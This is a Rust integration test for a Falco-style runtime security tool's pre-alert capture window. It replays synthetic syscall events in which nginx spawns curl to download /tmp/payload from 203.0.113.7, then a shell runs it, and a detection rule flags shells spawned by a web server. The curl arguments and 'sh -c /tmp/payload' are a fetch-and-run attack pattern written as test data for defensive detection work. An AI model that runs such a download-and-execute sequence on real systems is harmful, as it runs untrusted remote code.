//! Captures that look back (`capture.pre_duration`): an attacker's download
//! seconds before the alert that triggers the capture is in the file, with
//! a state snapshot that is valid for the file's first event, and the file
//! reads in falco and in sysdig 0.29.
//!
//! The story, in event time: nginx starts curl (0.1 s), curl downloads
//! /tmp/payload from 203.0.113.7 (3 s), nginx then spawns a shell (4.5 s),
//! which a rule with `capture: true` catches. Nothing reads the clock: the
//! replay is driven by event times only.

mod common;

use common::{config, run, Run};
use falco_abi::flag_tables::open_flags::{O_CREAT, O_RDONLY, O_WRONLY};
use falco_abi::schema::AT_FDCWD;
use falco_abi::EventCode;
use falco_scap::builder::events::{
    clone_child_exit, close_exit, connect_exit, execve_exit, ipv4_tuple, openat_exit, socket_exit,
};
use falco_scap::builder::{view, EventBuilder};
use falco_scap::state::{InitialState, ThreadInfo, UserInfo};
use falco_scap::{SavefileReader, SavefileWriter};
use std::io::BufWriter;
use std::path::{Path, PathBuf};

const S: u64 = 1_000_000_000;
/// Event times start here (an arbitrary moment, far from 0).
const BASE: u64 = 1_700_000_000 * S;
const NGINX: i64 = 300;
const CURL: i64 = 600;
const SHELL: i64 = 700;

fn thread(tid: i64, ptid: i64, exe: &str, uid: u32) -> ThreadInfo {
    let comm = exe.rsplit('/').next().unwrap_or(exe);
    ThreadInfo {
        tid: tid as u64,
        pid: tid as u64,
        ptid: ptid as u64,
        comm: comm.into(),
        exe: comm.into(),
        exepath: exe.into(),
        cwd: "/".into(),
        uid,
        gid: uid,
        loginuid: uid,
        clone_ts: BASE - S,
        cgroups: b"cpu=/\0".to_vec(),
        ..Default::default()
    }
}

/// systemd(1) > nginx(300, www-data).
fn world() -> InitialState {
    let mut st = InitialState::default();
    for t in [
        thread(1, 0, "/usr/lib/systemd/systemd", 0),
        thread(NGINX, 1, "/usr/sbin/nginx", 33),
    ] {
        st.threads.insert(t.tid, t);
    }
    for (uid, name) in [(0, "root"), (33, "www-data")] {
        st.users.push(UserInfo {
            uid,
            gid: uid,
            name: name.into(),
            homedir: "/".into(),
            shell: "/bin/sh".into(),
        });
    }
    st
}

/// nginx forks `tid`, which executes `exe` with `args`.
fn spawn(at: u64, tid: i64, exe: &str, args: &[&str]) -> Vec<EventBuilder> {
    vec![
        clone_child_exit(tid, NGINX, "/usr/sbin/nginx").ts(at),
        execve_exit(tid, NGINX, exe, args)
            .ts(at + 1000)
            .set("cwd", "/")
            .set("cgroups", b"cpu=/\0".to_vec())
            .set("loginuid", 33)
            .set("uid", 33)
            .set("cap_inheritable", 0)
            .set("cap_permitted", 0)
            .set("cap_effective", 0)
            .set("exe_ino", 0)
            .set("exe_ino_ctime", 0)
            .set("exe_ino_mtime", 0),
    ]
}

/// The attack, with systemd reading a file every 250 ms throughout so
/// that the window has events to roll over.
fn attack() -> Vec<EventBuilder> {
    let mut evs = Vec::new();
    for i in 0..28u64 {
        let at = BASE + i * S / 4;
        evs.push(
            openat_exit(1, 5, AT_FDCWD, "/etc/hostname", O_RDONLY)
                .ts(at)
                .set("mode", 0),
        );
        evs.push(close_exit(1, 5).ts(at + 500));
    }
    evs.extend(spawn(
        BASE + S / 10,
        CURL,
        "/usr/bin/curl",
        &["-o", "/tmp/payload", "http://203.0.113.7/payload"],
    ));
    let dl = BASE + 3 * S + 100;
    evs.push(socket_exit(CURL, 3).ts(dl));
    evs.push(
        connect_exit(
            CURL,
            3,
            &ipv4_tuple([10, 0, 0, 5], 40000, [203, 0, 113, 7], 80),
        )
        .ts(dl + 10),
    );
    evs.push(
        openat_exit(CURL, 4, AT_FDCWD, "/tmp/payload", O_WRONLY | O_CREAT)
            .ts(dl + 20)
            .set("mode", 0o755),
    );
    evs.push(close_exit(CURL, 4).ts(dl + 30));
    evs.push(close_exit(CURL, 3).ts(dl + 40));
    evs.extend(spawn(
        BASE + 4 * S + S / 2,
        SHELL,
        "/bin/sh",
        &["-c", "/tmp/payload"],
    ));
    evs.sort_by_key(|e| view(&e.build()).ts);
    evs
}

fn write_capture(path: &Path) {
    let out = BufWriter::new(std::fs::File::create(path).unwrap());
    let mut w = SavefileWriter::new(out, &world()).unwrap();
    for ev in attack() {
        w.write_event(&view(&ev.build())).unwrap();
    }
    w.finish().unwrap();
}

const RULES: &str = r#"
- rule: Shell spawned by web server
  desc: a web server's child runs a shell
  condition: evt.type = execve and evt.dir = < and proc.name = sh and proc.pname = nginx
  output: "Shell from web server (cmdline=%proc.cmdline)"
  priority: WARNING
  capture: true
  capture_duration: 1000
"#;

/// Replays `scap` with `rules`, logging at info level to stderr.
fn replay(cfg: &str, rules: &Path, scap: &Path) -> Run {
    run(&[
        "-c",
        cfg,
        "-r",
        rules.to_str().unwrap(),
        "-o",
        "log_stderr=true",
        "-o",
        "log_level=info",
        "-o",
        "engine.kind=replay",
        "-o",
        &format!("engine.replay.capture_file={}", scap.display()),
    ])
}

/// Replays the attack with `capture_extra` under `capture:`; the capture
/// files written.
fn replay_attack(dir: &Path, capture_extra: &str) -> Vec<PathBuf> {
    let scap = dir.join("attack.scap");
    write_capture(&scap);
    let rules = dir.join("rules.yaml");
    std::fs::write(&rules, RULES).unwrap();
    let prefix = dir.join("cap");
    let cfg = config(
        dir,
        &format!(
            "capture:\n  enabled: true\n  mode: rules\n  path_prefix: {}\n{capture_extra}",
            prefix.display()
        ),
    );
    let r = replay(&cfg, &rules, &scap);
    assert_eq!(r.code, 0, "{}\n{}", r.stdout, r.stderr);
    assert!(r.stdout.contains("Shell from web server"), "{}", r.stdout);
    let mut files: Vec<PathBuf> = std::fs::read_dir(dir)
        .unwrap()
        .map(|e| e.unwrap().path())
        .filter(|p| p.file_name().unwrap().to_string_lossy().starts_with("cap_"))
        .collect();
    files.sort();
    files
}

/// A capture read back: the snapshot's threads and (type, tid, ts, text
/// of each parameter) per event.
struct Read {
    threads: Vec<(u64, String)>,
    events: Vec<(u16, u64, u64, String)>,
}

fn read(path: &Path) -> Read {
    let mut r = SavefileReader::open(path).unwrap();
    let threads = r
        .threads()
        .values()
        .map(|t| (t.tid, t.comm.clone()))
        .collect();
    let mut events = Vec::new();
    while let Some(ev) = r.next_event().unwrap() {
        let text = String::from_utf8_lossy(ev.raw()).into_owned();
        events.push((ev.evt_type, ev.tid, ev.ts, text));
    }
    Read { threads, events }
}

fn has(read: &Read, code: EventCode, tid: i64, text: &str) -> bool {
    read.events
        .iter()
        .any(|(t, tid2, _, s)| *t == code as u16 && *tid2 == tid as u64 && s.contains(text))
}

#[test]
fn the_capture_of_the_shell_holds_the_download_before_it() {
    let dir = tempfile::tempdir().unwrap();
    let files = replay_attack(dir.path(), "  pre_duration: 2s\n  pre_max_mb: 4\n");
    assert_eq!(files.len(), 1, "{files:?}");
    let cap = read(&files[0]);
    // The download, 1.5 s before the alert.
    let connect = has(&cap, EventCode::SOCKET_CONNECT_X, CURL, "");
    let payload = has(&cap, EventCode::SYSCALL_OPENAT_2_X, CURL, "/tmp/payload");
    assert!(connect && payload, "download missing: {:?}", cap.events);
    // The match and what follows.
    assert!(has(&cap, EventCode::SYSCALL_EXECVE_19_X, SHELL, "/bin/sh"));
    // The window reaches at least 2 s before the match, and not much more
    // (pieces of 0.5 s, closed on events 250 ms apart): curl's start at
    // 0.1 s is older, so curl comes from the snapshot, the state before
    // the first event (no event of the file predates it).
    let first = cap.events.iter().map(|e| e.2).min().unwrap();
    let matched = cap
        .events
        .iter()
        .find(|e| e.0 == EventCode::SYSCALL_EXECVE_19_X as u16 && e.1 == SHELL as u64)
        .unwrap()
        .2;
    assert!(
        first <= matched - 2 * S && first >= matched - 2 * S - 3 * S / 4,
        "first event {} s before the match",
        (matched - first) as f64 / 1e9
    );
    assert!(!has(&cap, EventCode::SYSCALL_CLONE_20_X, CURL, ""));
    let comm = |tid: i64| {
        cap.threads
            .iter()
            .find(|t| t.0 == tid as u64)
            .map(|t| t.1.as_str())
    };
    assert_eq!(comm(CURL), Some("curl"), "{:?}", cap.threads);
    assert_eq!(comm(NGINX), Some("nginx"));
    // The shell is born in the file, not in its snapshot.
    assert_eq!(comm(SHELL), None);

    // The snapshot and the events agree: replayed, the download is curl's,
    // child of nginx, on the socket the file's own events opened.
    let rules = dir.path().join("download.yaml");
    std::fs::write(
        &rules,
        "- rule: Download\n  desc: d\n  condition: evt.type = connect and evt.dir = <\n  \
         output: \"dl %proc.name %proc.pname %user.name %fd.name\"\n  priority: WARNING\n",
    )
    .unwrap();
    let cfg = config(dir.path(), "");
    let r = replay(&cfg, &rules, &files[0]);
    assert_eq!(r.code, 0, "{}\n{}", r.stdout, r.stderr);
    assert!(
        r.stdout
            .contains("dl curl nginx www-data 10.0.0.5:40000->203.0.113.7:80"),
        "{}",
        r.stdout
    );

    // sysdig 0.29 reads it and shows the download.
    let sysdig = ["/usr/bin/sysdig", "/usr/local/bin/sysdig"]
        .into_iter()
        .find(|p| Path::new(p).exists());
    let Some(sysdig) = sysdig else {
        eprintln!("note: sysdig is not installed (scripts/setup.sh installs it): not checked");
        return;
    };
    let out = std::process::Command::new(sysdig)
        .arg("-r")
        .arg(&files[0])
        .output()
        .unwrap();
    let text = String::from_utf8_lossy(&out.stdout);
    assert!(
        out.status.success(),
        "{text}\n{}",
        String::from_utf8_lossy(&out.stderr)
    );
    let line = |what: &str| text.lines().any(|l| l.contains("curl") && l.contains(what));
    assert!(line("connect") && line("203.0.113.7:80"), "{text}");
    assert!(line("/tmp/payload"), "{text}");
    assert!(
        text.lines()
            .any(|l| l.contains("execve") && l.contains("sh")),
        "{text}"
    );
}

#[test]
fn without_pre_duration_the_capture_starts_at_the_alert() {
    // The control: what the look-back adds is absent without it.
    let dir = tempfile::tempdir().unwrap();
    let files = replay_attack(dir.path(), "");
    assert_eq!(files.len(), 1, "{files:?}");
    let cap = read(&files[0]);
    assert!(!has(&cap, EventCode::SOCKET_CONNECT_X, CURL, ""));
    assert!(has(&cap, EventCode::SYSCALL_EXECVE_19_X, SHELL, "/bin/sh"));
    let first = cap.events.iter().map(|e| e.2).min().unwrap();
    assert!(first >= BASE + 4 * S, "{first}");
}

#[test]
fn a_window_shorter_than_the_gap_misses_the_download() {
    let dir = tempfile::tempdir().unwrap();
    let files = replay_attack(dir.path(), "  pre_duration: 500ms\n");
    assert_eq!(files.len(), 1, "{files:?}");
    let cap = read(&files[0]);
    assert!(!has(&cap, EventCode::SOCKET_CONNECT_X, CURL, ""));
    let first = cap.events.iter().map(|e| e.2).min().unwrap();
    // About 0.5 s back (pieces close on events, 250 ms apart here).
    assert!(first > BASE + 3 * S + S / 4, "{}", first - BASE);
    assert!(first < BASE + 4 * S + S / 2, "{}", first - BASE);
}

#[test]
fn max_files_keeps_the_newest() {
    let dir = tempfile::tempdir().unwrap();
    // Every execve alerts: curl's at 0.1 s and the shell's at 4.5 s, each
    // recording 10 ms; one file is kept (within a size cap, which leaves
    // the small look-back whole).
    let extra = "  mode: all_rules\n  default_duration: 10\n  max_files: 1\n  max_size_mb: 1\n  pre_duration: 1s\n";
    let scap = dir.path().join("attack.scap");
    write_capture(&scap);
    let rules = dir.path().join("rules.yaml");
    std::fs::write(
        &rules,
        "- rule: Exec\n  desc: d\n  condition: evt.type = execve and evt.dir = <\n  output: \"exec %proc.name\"\n  priority: WARNING\n",
    )
    .unwrap();
    let prefix = dir.path().join("cap");
    let cfg = config(
        dir.path(),
        &format!(
            "capture:\n  enabled: true\n  path_prefix: {}\n{}",
            prefix.display(),
            extra
        ),
    );
    let r = replay(&cfg, &rules, &scap);
    assert_eq!(r.code, 0, "{}\n{}", r.stdout, r.stderr);
    assert_eq!(r.stdout.matches("exec ").count(), 2, "{}", r.stdout);
    let files: Vec<PathBuf> = std::fs::read_dir(dir.path())
        .unwrap()
        .map(|e| e.unwrap().path())
        .filter(|p| p.file_name().unwrap().to_string_lossy().starts_with("cap_"))
        .collect();
    assert_eq!(files.len(), 1, "{files:?}\n{}", r.stderr);
    // The one kept is the shell's, the newest.
    assert!(has(
        &read(&files[0]),
        EventCode::SYSCALL_EXECVE_19_X,
        SHELL,
        "/bin/sh"
    ));
    assert!(r.stderr.contains("Captures: 2 written"), "{}", r.stderr);
    assert!(
        r.stderr.contains("1 removed (capture.max_files)"),
        "{}",
        r.stderr
    );
}

#[test]
fn a_file_stops_at_its_size_cap() {
    let dir = tempfile::tempdir().unwrap();
    let scap = dir.path().join("big.scap");
    // One execve, then 1.2 MiB of opens of long names within the
    // recording's second.
    let mut evs = spawn(BASE, SHELL, "/bin/sh", &["-c", "x"]);
    let long = format!("/tmp/{}", "a".repeat(1000));
    for i in 0..1300u64 {
        evs.push(
            openat_exit(SHELL, -2, AT_FDCWD, &long, O_RDONLY)
                .ts(BASE + 10_000 + i)
                .set("mode", 0),
        );
    }
    let out = BufWriter::new(std::fs::File::create(&scap).unwrap());
    let mut w = SavefileWriter::new(out, &world()).unwrap();
    for ev in &evs {
        w.write_event(&view(&ev.build())).unwrap();
    }
    w.finish().unwrap();
    let rules = dir.path().join("rules.yaml");
    std::fs::write(&rules, RULES).unwrap();
    let prefix = dir.path().join("cap");
    let cfg = config(
        dir.path(),
        &format!(
            "capture:\n  enabled: true\n  path_prefix: {}\n  max_size_mb: 1\n",
            prefix.display()
        ),
    );
    let r = replay(&cfg, &rules, &scap);
    assert_eq!(r.code, 0, "{}\n{}", r.stdout, r.stderr);
    let files: Vec<PathBuf> = std::fs::read_dir(dir.path())
        .unwrap()
        .map(|e| e.unwrap().path())
        .filter(|p| p.file_name().unwrap().to_string_lossy().starts_with("cap_"))
        .collect();
    assert_eq!(files.len(), 1, "{files:?}");
    let size = std::fs::metadata(&files[0]).unwrap().len();
    assert!(size <= 1 << 20 && size > (1 << 20) - 2048, "{size}");
    // Whole events only: it reads to its end.
    let cap = read(&files[0]);
    assert!(
        cap.events.len() > 900 && cap.events.len() < 1300,
        "{}",
        cap.events.len()
    );
    assert!(
        r.stderr.contains("reached capture.max_size_mb"),
        "{}",
        r.stderr
    );
    assert!(
        r.stderr.contains("1 cut at capture.max_size_mb"),
        "{}",
        r.stderr
    );
}
